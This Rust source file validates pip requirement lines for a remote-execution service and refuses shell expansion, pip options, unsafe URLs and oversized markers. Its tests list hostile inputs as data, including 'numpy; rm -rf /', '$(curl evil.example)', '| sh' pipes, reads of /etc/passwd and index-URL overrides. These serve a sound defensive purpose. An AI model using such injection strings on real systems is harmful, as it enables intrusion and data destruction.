//! The pip requirements a caller sends, checked before anything reaches the cluster.
//!
//! Each line is a PEP 508 requirement, parsed by a real parser but treated as hostile. Before
//! parsing, a line must be printable ASCII without `$`, `\`, `#` or a pip option (a word
//! starting with `-`): so nothing is expanded from any environment (ours or pip's), no line
//! continues onto another, and one accepted line is exactly one requirement to pip. The one
//! option accepted is a hash at the end of the line, `--hash=sha256:<hex>` (or sha384, sha512;
//! at most [`MAX_HASHES`]), read by our own grammar, on an exact pin (`name==version`), with
//! the uv installer, which verifies each hashed requirement and leaves unhashed ones as they
//! are (pip would then demand a hash of every requirement and dependency). The parser
//! reads URLs as plain URLs, never expanding variables. Exactly one line is `python==X.Y`,
//! naming an interpreter from `REXEC_PYTHON_VERSIONS`. Refused besides: direct URLs (unless
//! `REXEC_ALLOW_DIRECT_URLS=true` allows `https://` ones), a package named twice, more than
//! `REXEC_MAX_REQUIREMENTS` lines or a line longer than `REXEC_MAX_REQUIREMENT_LENGTH`.
//!
//! A marker (after `;`) is read by [`super::marker`], bounded and in linear time, never by the
//! parser's marker algebra, whose normal form is exponential in the marker's clauses.
//!
//! A refusal names the line by its number with a fixed reason in our words: it never quotes
//! the line or the parser. Accepted lines reach the environment's build verbatim as a file the
//! installer reads with `-r` (uv or pip): never a command line. Their identity is a digest of the normalised lines,
//! in any order, with the interpreter.

use std::collections::HashMap;
use std::str::FromStr;

use pep508_rs::pep440_rs::Operator;
use pep508_rs::{Requirement, VersionOrUrl};
use sha2::{Digest, Sha256};
use url::Url;

use super::marker;
use super::settings::{Installer, python_versions};
use crate::config::{ConfigError, Vars};

/// The most `--hash` options one line may carry (one per file of the release it pins).
pub const MAX_HASHES: usize = 64;

/// Why requirements were refused, in words for the caller: never quoting a line or the parser.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RequirementsError {
    #[error("Too many requirements: at most {max} lines are accepted.")]
    TooMany { max: usize },
    #[error("Requirement line {line}: {reason}.")]
    Line { line: usize, reason: String },
    #[error("Name the interpreter with one line python==X.Y, one of {offered}.")]
    MissingPython { offered: String },
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RequirementsPolicy {
    /// Interpreters a caller may choose, as `X.Y`.
    pub python_versions: Vec<String>,
    pub max_count: usize,
    pub max_line_length: usize,
    pub allow_direct_urls: bool,
    /// Whether a line may pin its files with `--hash` (the installer is uv).
    pub hashes: bool,
}

/// What one accepted line says.
enum Line {
    /// `python==X.Y`: the interpreter.
    Python(String),
    /// A package: its name, the line normalised (for the digest), and the line as the
    /// installer gets it.
    Package { name: String, normal: String, text: String },
}

/// The identity of an environment: the interpreter and the normalised lines, in any order.
fn digest(python: &str, mut normalised: Vec<String>) -> String {
    normalised.sort();
    let mut hasher = Sha256::new();
    hasher.update(format!("python=={python}\n"));
    for line in &normalised {
        hasher.update(line.as_bytes());
        hasher.update(b"\n");
    }
    hasher.finalize().iter().map(|b| format!("{b:02x}")).collect()
}

impl RequirementsPolicy {
    pub fn from_vars(vars: &Vars) -> Result<Self, ConfigError> {
        Ok(Self {
            python_versions: python_versions(vars)?,
            max_count: vars.parse_or("REXEC_MAX_REQUIREMENTS", 200)?,
            max_line_length: vars.parse_or("REXEC_MAX_REQUIREMENT_LENGTH", 500)?,
            allow_direct_urls: vars.bool_or("REXEC_ALLOW_DIRECT_URLS", false)?,
            hashes: Installer::from_vars(vars)? == Installer::Uv,
        })
    }

    /// Checks the caller's lines, in the order sent.
    pub fn check<S: AsRef<str>>(&self, lines: &[S]) -> Result<Requirements, RequirementsError> {
        let mut python = None;
        let mut packages: Vec<String> = Vec::new();
        let mut normalised: Vec<String> = Vec::new();
        let mut seen: HashMap<String, usize> = HashMap::new();
        let mut count = 0;
        for (index, raw) in lines.iter().enumerate() {
            let number = index + 1;
            let raw = raw.as_ref();
            if raw.trim().is_empty() || raw.trim().starts_with('#') {
                continue;
            }
            count += 1;
            if count > self.max_count {
                return Err(RequirementsError::TooMany { max: self.max_count });
            }
            let refuse = |reason: &str| RequirementsError::Line {
                line: number,
                reason: reason.to_owned(),
            };
            match self.line(raw).map_err(|reason| refuse(&reason))? {
                Line::Python(_) if python.is_some() => {
                    return Err(refuse("a second python== line; name the interpreter once"));
                }
                Line::Python(version) => python = Some(version),
                Line::Package { name, normal, text } => {
                    if let Some(first) = seen.insert(name.clone(), number) {
                        return Err(refuse(&format!("{name} is already required on line {first}")));
                    }
                    normalised.push(normal);
                    packages.push(text);
                }
            }
        }
        let python = python.ok_or_else(|| RequirementsError::MissingPython {
            offered: self.python_versions.join(", "),
        })?;
        let digest = digest(&python, normalised);
        Ok(Requirements {
            python,
            packages,
            digest,
        })
    }

    /// One line that is neither blank nor a comment: the interpreter it pins, or the package it
    /// requires; else why it is refused.
    fn line(&self, raw: &str) -> Result<Line, String> {
        let (line, hashes) = split_hashes(raw.trim()).map_err(str::to_owned)?;
        if line.len() > self.max_line_length {
            return Err(format!("longer than {} characters", self.max_line_length));
        }
        if let Some(reason) = unsafe_text(raw, line) {
            return Err(reason.to_owned());
        }
        let invalid = || "not a valid PEP 508 requirement (name, extras, version, marker)".to_owned();
        if !names_are_well_formed(line) {
            return Err(invalid());
        }
        // The marker is read by our linear reader, the rest by the PEP 508 parser.
        let (head, marker) = split_marker(line);
        let requirement = Requirement::<Url>::from_str(head).map_err(|_| invalid())?;
        if !requirement.marker.is_true() {
            return Err(invalid());
        }
        let marker = marker.map(marker::normalise).transpose().map_err(|err| err.reason())?;
        let name = requirement.name.to_string();
        if name == "python" {
            if marker.is_some() {
                return Err(self.wanted());
            }
            return self.python_pin(&requirement).map(Line::Python);
        }
        if let Some(VersionOrUrl::Url(url)) = &requirement.version_or_url
            && !(self.allow_direct_urls && url.scheme() == "https")
        {
            return Err(match self.allow_direct_urls {
                true => "only https:// direct URLs are accepted",
                false => "direct URLs are not accepted; name a package from the index",
            }
            .to_owned());
        }
        if !hashes.is_empty() {
            if !self.hashes {
                return Err("--hash needs the uv installer, which verifies each hashed requirement".into());
            }
            if !is_exact_pin(&requirement) {
                return Err("--hash needs an exact pin, name==version".into());
            }
        }
        let hashed: String = hashes.iter().map(|h| format!(" --hash={h}")).collect();
        Ok(Line::Package {
            name,
            normal: match marker {
                Some(marker) => format!("{requirement} ; {}{hashed}", marker.text),
                None => format!("{requirement}{hashed}"),
            },
            text: format!("{line}{hashed}"),
        })
    }

    fn wanted(&self) -> String {
        format!("write python==X.Y with X.Y one of {}", self.python_versions.join(", "))
    }

    fn python_pin(&self, requirement: &Requirement<Url>) -> Result<String, String> {
        let wanted = || self.wanted();
        let specifiers = match &requirement.version_or_url {
            Some(VersionOrUrl::VersionSpecifier(specifiers)) => specifiers,
            _ => return Err(wanted()),
        };
        let [pin] = specifiers.iter().collect::<Vec<_>>()[..] else {
            return Err(wanted());
        };
        let version = pin.version().to_string();
        if *pin.operator() != Operator::Equal || !requirement.extras.is_empty() {
            return Err(wanted());
        }
        if !self.python_versions.contains(&version) {
            return Err(format!("python {version} is not offered; {}", wanted()));
        }
        Ok(version)
    }
}

/// Requirements that passed the policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Requirements {
    /// The interpreter, `X.Y`.
    pub python: String,
    /// The package lines as the caller sent them (trimmed), in order: the pod's requirements file.
    pub packages: Vec<String>,
    /// SHA-256 (hex) of the interpreter and the normalised lines, order-independent.
    pub digest: String,
}

impl Requirements {
    /// The requirements file the installer reads with `-r`.
    pub fn file(&self) -> String {
        self.packages.iter().map(|line| format!("{line}\n")).collect()
    }

    /// Every line as the client sends them, the interpreter first.
    pub fn lines(&self) -> Vec<String> {
        std::iter::once(format!("python=={}", self.python))
            .chain(self.packages.iter().cloned())
            .collect()
    }
}

/// A line cut where its hashes start: the requirement, and its `--hash=<algorithm>:<hex>`
/// words, lowercase, sorted, once each. Only the words at the end of a line, each well formed,
/// are hashes; any other word starting with `-` stays in the requirement (and is refused there).
fn split_hashes(line: &str) -> Result<(&str, Vec<String>), &'static str> {
    let mut head = line;
    let mut hashes = Vec::new();
    while let Some((rest, word)) = head.rsplit_once(' ') {
        let Some(hash) = word.strip_prefix("--hash=") else {
            break;
        };
        let (algorithm, hex) = hash.split_once(':').ok_or("a --hash is written --hash=sha256:<hex>")?;
        let digits = match algorithm {
            "sha256" => 64,
            "sha384" => 96,
            "sha512" => 128,
            _ => return Err("a --hash is sha256, sha384 or sha512"),
        };
        if hex.len() != digits || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Err("a --hash holds the digest's hexadecimal digits, all of them");
        }
        hashes.push(format!("{algorithm}:{}", hex.to_ascii_lowercase()));
        if hashes.len() > MAX_HASHES {
            return Err("too many --hash options on one line");
        }
        head = rest.trim_end();
    }
    hashes.sort();
    hashes.dedup();
    Ok((head, hashes))
}

/// Whether a requirement pins one version exactly (`==` without a wildcard, or `===`).
fn is_exact_pin(requirement: &Requirement<Url>) -> bool {
    match &requirement.version_or_url {
        Some(VersionOrUrl::VersionSpecifier(specifiers)) => {
            let specifiers: Vec<_> = specifiers.iter().collect();
            matches!(specifiers[..], [pin] if matches!(pin.operator(), Operator::Equal | Operator::ExactEqual))
        }
        _ => false,
    }
}

/// Why a line cannot be handed to pip as one requirement, before any parsing: only printable
/// ASCII; no `$` (pip and some parsers expand `${VAR}`), no `\` (a line continuation), no `#`
/// (a comment that could hide the rest of a line), and no word starting with `-` in the
/// requirement `head` (pip reads `--config-settings` and the like as options wherever they stand
/// on a line; the hashes after it are read apart, by [`split_hashes`]).
fn unsafe_text(raw: &str, head: &str) -> Option<&'static str> {
    if raw.bytes().any(|b| !(b == b' ' || b.is_ascii_graphic())) {
        return Some("only printable ASCII characters are accepted");
    }
    if raw.contains(['$', '\\']) {
        return Some("the characters $ and \\ are not accepted");
    }
    if raw.contains('#') {
        return Some("# is not accepted inside a requirement");
    }
    if head.starts_with('-') {
        return Some("pip options such as -r or --index-url are not accepted");
    }
    if head.split(' ').any(|word| word.starts_with('-')) {
        return Some("a word starting with - would be read by pip as an option");
    }
    None
}

/// A line cut where its marker starts: the requirement, and the marker's text after `;`. The
/// first `;` starts the marker, except after `@`, where the URL runs to the next whitespace (a
/// `;` in it is part of it).
fn split_marker(line: &str) -> (&str, Option<&str>) {
    let from = match line.find(['@', ';']) {
        Some(at) if line.as_bytes()[at] == b'@' => {
            let url = line[at + 1..].trim_start();
            line.len() - url.len() + url.find(char::is_whitespace).unwrap_or(url.len())
        }
        _ => 0,
    };
    match line[from..].find(';') {
        Some(at) => (&line[..from + at], Some(&line[from + at + 1..])),
        None => (line, None),
    }
}

/// Whether the distribution name that starts `line`, and the extras in brackets after it, are
/// PEP 508 names: ASCII letters and digits, with `.`, `-` and `_` only between them. Checked
/// before the parser sees the line, whose name and extra readers panic on a name that ends in
/// one of those three (`a- ==1`, `pkg[extra-`).
fn names_are_well_formed(line: &str) -> bool {
    let is_name_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_');
    let well_formed = |name: &str| {
        name.starts_with(|c: char| c.is_ascii_alphanumeric()) && name.ends_with(|c: char| c.is_ascii_alphanumeric())
    };
    let name_end = line.find(|c: char| !is_name_char(c)).unwrap_or(line.len());
    if !well_formed(&line[..name_end]) {
        return false;
    }
    let Some(extras) = line[name_end..].trim_start().strip_prefix('[') else {
        return true;
    };
    let extras = extras.split(']').next().unwrap_or_default();
    extras
        .split(|c: char| !is_name_char(c))
        .filter(|name| !name.is_empty())
        .all(well_formed)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> RequirementsPolicy {
        RequirementsPolicy::from_vars(&Vars::default()).unwrap()
    }

    #[test]
    fn the_contract_example() {
        let reqs = policy().check(&["python==3.11", "numpy>=1.26"]).unwrap();
        assert_eq!(reqs.python, "3.11");
        assert_eq!(reqs.packages, vec!["numpy>=1.26"]);
        assert_eq!(reqs.file(), "numpy>=1.26\n");
        assert_eq!(reqs.lines(), vec!["python==3.11", "numpy>=1.26"]);
        assert_eq!(reqs.digest.len(), 64);
    }

    #[test]
    fn the_digest_ignores_order_spelling_and_blank_lines() {
        let a = policy()
            .check(&["python==3.11", "NumPy >= 1.26", "pandas[excel]"])
            .unwrap();
        let b = policy()
            .check(&["pandas[EXCEL]", "", "# comment", "numpy>=1.26", "python==3.11"])
            .unwrap();
        assert_eq!(a.digest, b.digest);
        let c = policy()
            .check(&["python==3.12", "numpy>=1.26", "pandas[excel]"])
            .unwrap();
        assert_ne!(a.digest, c.digest, "the interpreter is part of the identity");
        let d = policy()
            .check(&["python==3.11", "numpy>=1.27", "pandas[excel]"])
            .unwrap();
        assert_ne!(a.digest, d.digest);
    }

    #[test]
    fn the_interpreter_pin_is_required_once_and_offered() {
        let p = policy();
        for lines in [
            vec!["numpy"],
            vec!["python==3.11", "python==3.11"],
            vec!["python>=3.11"],
            vec!["python==3.9"],
            vec!["python"],
            vec!["python==3.11,==3.11"],
            vec!["python==3.11; sys_platform == 'linux'"],
            vec![],
        ] {
            let err = p.check(&lines).unwrap_err();
            assert!(!matches!(err, RequirementsError::TooMany { .. }), "{lines:?}");
        }
    }

    #[test]
    fn errors_name_the_line() {
        let err = policy().check(&["python==3.11", "numpy", "numpy>=2"]).unwrap_err();
        assert!(
            err.to_string().contains("line 3") && err.to_string().contains("line 2"),
            "{}",
            err.to_string()
        );
        let err = policy().check(&["python==3.11", "not a requirement!"]).unwrap_err();
        assert_eq!(
            err.to_string(),
            "Requirement line 2: not a valid PEP 508 requirement (name, extras, version, marker)."
        );
    }

    #[test]
    fn nothing_is_expanded_and_nothing_is_quoted() {
        // HOME is set in every process the tests run in.
        let home = std::env::var("HOME").unwrap();
        let open = RequirementsPolicy {
            allow_direct_urls: true,
            ..policy()
        };
        for line in [
            "pkg @ ${HOME}",
            "pkg @ https://example.org/${HOME}.tar.gz",
            "pkg @ file://${HOME}/x",
            "pkg @ $HOME",
            "${HOME}",
            "pkg==${HOME}",
        ] {
            for p in [policy(), open.clone()] {
                let err = p.check(&["python==3.11", line]).unwrap_err();
                assert!(!matches!(err, RequirementsError::TooMany { .. }), "{line}");
                assert!(!err.to_string().contains(&home), "{line}: {}", err);
                assert!(!err.to_string().contains(line), "the line is never quoted: {}", err);
            }
        }
    }

    #[test]
    fn non_ascii_and_separators_are_refused_without_panic() {
        for line in [
            "pkg[é]",
            "pkg[\u{10348}]==1",
            "numpy\u{2028}scipy",
            "numpy\u{2029}",
            "numpy\u{85}",
            "numpy\u{feff}",
            "nümpy",
            "pkg[a,\u{0301}b]",
        ] {
            let err = policy().check(&["python==3.11", line]).unwrap_err();
            assert!(matches!(err, RequirementsError::Line { line: 2, .. }), "{line:?}");
            assert!(
                err.to_string()
                    .ends_with("only printable ASCII characters are accepted."),
                "{}",
                err.to_string()
            );
        }
    }

    #[test]
    fn a_pinned_line_may_carry_its_hashes_which_uv_verifies() {
        let (a, b) = ("a".repeat(64), "B".repeat(64));
        let line = format!("six==1.17.0 --hash=sha256:{b} --hash=sha256:{a}  --hash=sha256:{a}");
        let hashed = policy().check(&["python==3.11", &line, "numpy"]).unwrap();
        let b = b.to_lowercase();
        assert_eq!(
            hashed.file(),
            format!("six==1.17.0 --hash=sha256:{a} --hash=sha256:{b}\nnumpy\n"),
            "sorted, lowercase, once each; the unhashed line as it was"
        );
        let unhashed = policy().check(&["python==3.11", "six==1.17.0", "numpy"]).unwrap();
        assert_ne!(hashed.digest, unhashed.digest, "another environment");
        let marker = format!("six==1.17.0 ; python_version >= '3' --hash=sha512:{}", "c".repeat(128));
        assert!(policy().check(&["python==3.11", &marker]).is_ok());
        let pip = RequirementsPolicy {
            hashes: false,
            ..policy()
        };
        let refusal = |p: &RequirementsPolicy, line: &str| p.check(&["python==3.11", line]).unwrap_err().to_string();
        assert!(refusal(&pip, &line).contains("needs the uv installer"));
        for (line, reason) in [
            (format!("six>=1 --hash=sha256:{a}"), "needs an exact pin"),
            (format!("six==1.* --hash=sha256:{a}"), "needs an exact pin"),
            (format!("six --hash=sha256:{a}"), "needs an exact pin"),
            ("six==1.17.0 --hash=sha256:abc".to_owned(), "all of them"),
            (format!("six==1.17.0 --hash=md5:{a}"), "sha256, sha384 or sha512"),
            (format!("six==1.17.0 --hash={a}"), "written --hash=sha256:<hex>"),
            (format!("six==1.17.0 --hash=sha256:{}", "g".repeat(64)), "all of them"),
            (
                format!("six==1.17.0 --hash sha256:{a}"),
                "would be read by pip as an option",
            ),
            (
                format!("six==1.17.0 --hash=sha256:{a} --no-deps"),
                "would be read by pip as an option",
            ),
            (
                format!("six==1.17.0 --no-deps --hash=sha256:{a}"),
                "would be read by pip as an option",
            ),
            (format!("--hash=sha256:{a}"), "pip options"),
            (
                format!("six==1.17.0{}", format!(" --hash=sha256:{a}").repeat(MAX_HASHES + 1)),
                "too many --hash",
            ),
        ] {
            let said = refusal(&policy(), &line);
            assert!(said.contains(reason), "{line}: {said}");
            assert!(!said.contains(&a[..16]), "the line is never quoted: {said}");
        }
    }

    #[test]
    fn one_line_is_one_requirement_to_pip() {
        for line in [
            "numpy --hash=sha256:0000",
            "numpy; platform_release == ' --global-option=x'",
            "numpy --config-settings=x=y",
            "numpy \\",
            "numpy # trailing comment",
            "numpy#egg=x",
            "I__u_. ",
            "numpy- >=1",
            "pkg_[x]",
            "pkg.;python_version>'3'",
            "pandas[exce2222K-",
            "pandas[a-, b]",
            "pandas[ok, b_ ]==1",
        ] {
            let err = policy().check(&["python==3.11", line]).unwrap_err();
            assert!(!matches!(err, RequirementsError::TooMany { .. }), "{line:?}");
        }
        let open = RequirementsPolicy {
            allow_direct_urls: true,
            ..policy()
        };
        for line in [
            "pkg @ http://example.org/pkg.tar.gz",
            "pkg @ file:///etc/passwd",
            "pkg @ git+https://x/y",
        ] {
            let err = open.check(&["python==3.11", line]).unwrap_err();
            assert!(
                err.to_string().ends_with("only https:// direct URLs are accepted."),
                "{line}: {}",
                err
            );
        }
    }

    #[test]
    fn limits() {
        let p = RequirementsPolicy {
            max_count: 3,
            max_line_length: 20,
            ..policy()
        };
        assert_eq!(
            p.check(&["python==3.11", "a", "b", "c"]).unwrap_err(),
            RequirementsError::TooMany { max: 3 }
        );
        assert_eq!(
            p.check(&["python==3.11", &format!("a{}", "1".repeat(30))])
                .unwrap_err()
                .to_string(),
            "Requirement line 2: longer than 20 characters."
        );
    }

    #[test]
    fn direct_urls_only_when_allowed() {
        let line = "pkg @ https://example.org/pkg-1.0.tar.gz";
        assert!(matches!(
            policy().check(&["python==3.11", line]).unwrap_err(),
            RequirementsError::Line { line: 2, .. }
        ));
        let open = RequirementsPolicy {
            allow_direct_urls: true,
            ..policy()
        };
        assert_eq!(open.check(&["python==3.11", line]).unwrap().packages, vec![line]);
    }

    #[test]
    fn hostile_lines_are_refused_or_carried_verbatim() {
        let long = format!("numpy{}", "1".repeat(600));
        let cases: Vec<(&str, bool)> = vec![
            ("numpy; rm -rf /", false),
            ("numpy ; echo pwned", false),
            ("$(curl evil.example)", false),
            ("numpy$(id)", false),
            ("`id`", false),
            ("numpy`id`", false),
            ("numpy > /etc/passwd", false),
            ("numpy < /etc/passwd", false),
            ("numpy && curl evil.example", false),
            ("numpy || true", false),
            ("numpy | sh", false),
            ("\"numpy\"", false),
            ("'numpy'", false),
            ("numpy==1.0'; id; '", false),
            ("https://evil.example/pkg.tar.gz", false),
            ("pkg @ https://evil.example/pkg.tar.gz", false),
            ("pkg @ git+https://evil.example/repo.git", false),
            ("pkg @ file:///etc/passwd", false),
            ("./local/path", false),
            ("/etc/passwd", false),
            ("--index-url https://evil.example/simple", false),
            ("--extra-index-url=https://evil.example", false),
            ("-r /etc/passwd", false),
            ("-e .", false),
            ("--trusted-host evil.example", false),
            (long.as_str(), false),
            ("numpy\nrm -rf /", false),
            ("numpy\r\nid", false),
            ("numpy\u{0}", false),
            ("numpy\u{1b}[31m", false),
            ("numpy\ttab", false),
            ("numpy<2", true),
            ("numpy>=1.26,<2", true),
            ("pandas[excel]>1", true),
            ("scipy; python_version > \"3.8\"", true),
            ("requests ; sys_platform == 'linux'", true),
        ];
        for (line, accepted) in cases {
            match policy().check(&["python==3.11", line]) {
                Ok(reqs) => {
                    assert!(accepted, "accepted {line:?}");
                    assert_eq!(reqs.file(), format!("{line}\n"), "carried verbatim");
                }
                Err(err) => {
                    assert!(!accepted, "refused {line:?}: {}", err);
                    assert!(
                        !err.to_string().contains('\n') && !err.to_string().contains('\u{1b}'),
                        "errors escape control characters"
                    );
                }
            }
        }
    }

    /// The lines that pinned a spawn for minutes (ten `extra` clauses normalised through the
    /// parser's marker tree): refused at once, and so is any marker past the bounds.
    #[test]
    fn markers_are_bounded_and_extra_is_refused() {
        let extra = |n: usize| {
            let clauses: Vec<String> = (0..n).map(|i| format!("(extra=='a{i}' and extra=='b{i}')")).collect();
            format!("six ; {}", clauses.join(" or "))
        };
        for n in [1, 8] {
            let err = policy().check(&["python==3.11", &extra(n)]).unwrap_err();
            assert!(err.to_string().contains("extra markers are not accepted"), "{n}: {err}");
        }
        let err = policy().check(&["python==3.11", &extra(10)]).unwrap_err();
        assert!(err.to_string().contains("longer than 300 characters"), "{err}");
        let many: Vec<String> = (0..9).map(|i| format!("os_name=='a{i}'")).collect();
        let err = policy()
            .check(&["python==3.11", &format!("six ; {}", many.join(" or "))])
            .unwrap_err();
        assert!(err.to_string().contains("more than 8 comparisons"), "{err}");
    }

    #[test]
    fn a_marker_is_normalised_and_kept_verbatim_in_the_file() {
        let a = policy()
            .check(&["python==3.11", "scipy;python_version>'3.8' and (os_name=='posix')"])
            .unwrap();
        let b = policy()
            .check(&[
                "python==3.11",
                "SciPy ; python_version > '3.8'  and ( os_name == 'posix' )",
            ])
            .unwrap();
        assert_eq!(a.digest, b.digest);
        assert_eq!(a.file(), "scipy;python_version>'3.8' and (os_name=='posix')\n");
        let c = policy()
            .check(&["python==3.11", "scipy;python_version>'3.9' and (os_name=='posix')"])
            .unwrap();
        assert_ne!(a.digest, c.digest);
        let open = RequirementsPolicy {
            allow_direct_urls: true,
            ..policy()
        };
        let url = open
            .check(&[
                "python==3.11",
                "pkg @ https://example.org/p;a=1.tar.gz ; os_name == 'posix'",
            ])
            .unwrap();
        assert_eq!(url.packages.len(), 1, "a ; inside the URL belongs to it");
        for line in [
            "pkg @ https://example.org/p.tar.gz ; extra == 'x'",
            "pkg @ https://example.org/p.tar.gz ; os_name",
        ] {
            assert!(open.check(&["python==3.11", line]).is_err(), "{line}");
        }
    }

    #[test]
    fn bad_settings_name_the_variable() {
        let err =
            RequirementsPolicy::from_vars(&Vars::from_pairs([("REXEC_PYTHON_VERSIONS", "3.11,three")])).unwrap_err();
        assert_eq!(err.variable, "REXEC_PYTHON_VERSIONS");
        let p = RequirementsPolicy::from_vars(&Vars::from_pairs([("REXEC_PYTHON_VERSIONS", "3.12")])).unwrap();
        assert!(p.check(&["python==3.11"]).is_err());
        assert!(p.check(&["python==3.12"]).is_ok());
    }
}

#[cfg(test)]
mod properties {
    use proptest::prelude::*;

    use super::*;

    /// Lines as a hostile caller writes them: any Unicode, requirement-shaped text with odd
    /// characters, and the characters the checks single out.
    fn line() -> impl Strategy<Value = String> {
        prop_oneof![
            any::<String>(),
            "[a-zA-Z0-9._-]{1,12}(\\[[^\\]]{0,8}\\])?( ?(==|>=|<|~=|@) ?[^\\n]{0,30})?(;[^\\n]{0,30})?",
            "[ -~]{0,60}",
            proptest::collection::vec(
                prop_oneof![
                    Just("$"),
                    Just("\\"),
                    Just("#"),
                    Just(" -"),
                    Just("\u{2028}"),
                    Just("é"),
                    Just("pkg"),
                    Just("[x]"),
                    Just("${HOME}")
                ],
                0..8
            )
            .prop_map(|parts| parts.concat()),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3000))]

        #[test]
        fn any_lines_are_accepted_safely_or_refused_plainly(lines in proptest::collection::vec(line(), 0..6)) {
            let mut all = vec!["python==3.11".to_owned()];
            all.extend(lines);
            for policy in [policy(), RequirementsPolicy { allow_direct_urls: true, ..policy() }] {
                match policy.check(&all) {
                    Ok(reqs) => {
                        prop_assert_eq!(reqs.digest.len(), 64);
                        for line in reqs.file().lines() {
                            prop_assert!(line.bytes().all(|b| b == b' ' || b.is_ascii_graphic()), "{:?}", line);
                            prop_assert!(!line.contains(['$', '\\', '#']), "{:?}", line);
                            prop_assert!(!line.split(' ').any(|w| w.starts_with('-')), "{:?}", line);
                        }
                    }
                    Err(err) => {
                        prop_assert!(err.to_string().is_ascii(), "{}", err.to_string());
                        for line in &all[1..] {
                            prop_assert!(line.len() < 4 || !err.to_string().contains(line.as_str()), "quoted {:?}", line);
                        }
                    }
                }
            }
        }
    }

    fn policy() -> RequirementsPolicy {
        RequirementsPolicy::from_vars(&Vars::default()).unwrap()
    }
}
